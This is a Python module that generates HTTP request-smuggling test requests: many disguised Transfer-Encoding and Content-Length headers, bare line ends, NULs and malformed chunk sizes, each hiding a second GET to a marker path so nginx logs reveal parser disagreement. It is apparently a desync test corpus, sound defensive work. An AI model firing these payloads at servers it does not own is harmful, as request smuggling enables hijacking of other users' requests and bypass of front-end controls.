"""Requests that two readers of HTTP may understand as different ones: where a body ends, and what a line is.

It promises that a request hidden behind another asks for a path of its own, so that nginx's log tells whether it was seen. Bytes
only: nothing is judged here.
"""

CHUNKED = (b"Transfer-Encoding: chunked", b"Transfer-Encoding : chunked", b"Transfer-Encoding:\tchunked",
           b"Transfer-Encoding: xchunked",
           b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", b"Transfer-Encoding: identity, chunked", b"X: x\nTransfer-Encoding: chunked",
           b" Transfer-Encoding: chunked", b"Transfer-Encoding:\r\n chunked", b"Transfer-Encoding: \x0bchunked", b"transfer_encoding: chunked",
           b"Transfer-Encoding: CHUNKED", b"Transfer-Encoding: \"chunked\"", b"Transfer-Encoding: chunked;x=y", b"Transfer-Encoding\x00: chunked",
           b"X: x\rTransfer-Encoding: chunked")
LENGTHS = (b"Content-Length: %d", b"Content-Length: +%d", b"Content-Length: 0%d", b"Content-Length: %d, 0",
           b"Content-Length: 0\r\nContent-Length: %d",
           b"Content-Length: %d\r\nContent-Length: 0", b"Content-Length:\r\n %d", b"Content-Length: %d\x00", b"Content-Length : %d",
           b" Content-Length: %d", b"X: x\nContent-Length: %d", b"Content_Length: %d", b"Content-Length: 0x%x", b"Content-Length: %de0",
           b"Content-Length: 18446744073709551616%d")


def hidden(host, marker):
    return b"GET /smuggled-" + marker + b" HTTP/1.1\r\nHost: " + host + b"\r\n\r\n"


def wrapped(host, lines, body):
    return b"POST /register/ HTTP/1.1\r\nHost: " + host + b"\r\n" + lines + b"\r\nX-End: x\r\n\r\n" + body


def by_length_and_chunks(host, marker):
    """CL.TE and TE.CL with each disguise: the hidden request is body to one reader, and the next request to the other."""
    inner = hidden(host, marker)
    for chunked in CHUNKED:
        behind_end = b"0\r\n\r\n" + inner
        yield wrapped(host, b"Content-Length: %d\r\n" % len(behind_end) + chunked, behind_end)
        yield wrapped(host, chunked + b"\r\nContent-Length: %d" % len(behind_end), behind_end)
        as_chunk = b"%x\r\n" % len(inner) + inner + b"\r\n0\r\n\r\n"
        yield wrapped(host, b"Content-Length: %d\r\n" % (as_chunk.index(b"\r\n") + 2) + chunked, as_chunk)


def by_two_lengths(host, marker):
    """Lengths that are doubled or disguised: none, or all of it?"""
    inner = hidden(host, marker)
    for length in LENGTHS:
        yield wrapped(host, length % len(inner), inner)


def by_lines(host, marker):
    """Bare line ends, folded lines and NULs, in the header and in the request line."""
    inner = hidden(host, marker)
    for end in (b"\r\r", b"\r\n \r\n", b"\x0b\x0b", b"\xc2\x85\xc2\x85", b"\xe2\x80\xa8\xe2\x80\xa8", b"\x00"):
        yield b"POST /register/ HTTP/1.1\r\nHost: " + host + b"\r\nX-End: x\r\nX: x" + end + inner
    for line in (b"GET / HTTP/1.1 HTTP/1.1", b"GET /\x00 HTTP/1.1", b"GET /\r\nX: x HTTP/1.1", b"GET / HTTP/1.1\x0b",
                 b"GET /  HTTP/1.1", b"GET\t/\tHTTP/1.1"):
        yield line + b"\r\nHost: " + host + b"\r\nX-End: x\r\nContent-Length: %d\r\n\r\n" % len(inner) + inner


def by_chunk_sizes(host, marker):
    """Sizes that overflow or are none."""
    inner = hidden(host, marker)
    for size in (b"0\r\r", b"-1\r\n", b"0x0\r\n\r\n", b"10000000000000000\r\n", b"ffffffffffffffff\r\n", b" 0\r\n\r\n",
                 b"1\r\nZ0\r\n\r\n",
                 b"\r\n\r\n", b";\r\n\r\n", b"g\r\n\r\n", b"0_0\r\n\r\n", b"+0\r\n\r\n"):
        yield wrapped(host, b"Transfer-Encoding: chunked", size + inner)


def by_bare_feeds(host, marker):
    """Chunks whose lines end in a bare line feed: a reader that is strict sees no end there."""
    for size in (b"0;x=\n\n", b"0\n\n"):
        yield wrapped(host, b"Transfer-Encoding: chunked", size + hidden(host, marker))


def by_the_book(host, marker):
    """What RFC 9112 lets every reader take for an end: behind it stands the next request, unless this was the last."""
    inner = hidden(host, marker)
    for end in (b"\n\n", b"\n\r\n", b"\r\n\n"):
        yield b"POST /register/ HTTP/1.1\r\nHost: " + host + b"\r\nX-End: x\r\nX: x" + end + inner
    for size in (b"00000000000000000000\r\n\r\n", b"0\r\nTrailer: x\r\n\r\n", b"2\r\nZ\r\n\r\n0\r\n\r\n"):
        yield wrapped(host, b"Transfer-Encoding: chunked", size + inner)


def closing(request):
    """The same request as the last of its connection: nothing behind it may be read as one."""
    return request.replace(b"X-End: x", b"Connection: close", 1)


KINDS = {"CL.TE and TE.CL": by_length_and_chunks, "two lengths": by_two_lengths, "line ends": by_lines,
         "chunk sizes": by_chunk_sizes,
         "bare line feeds in chunks": by_bare_feeds, "ends by the book": by_the_book}
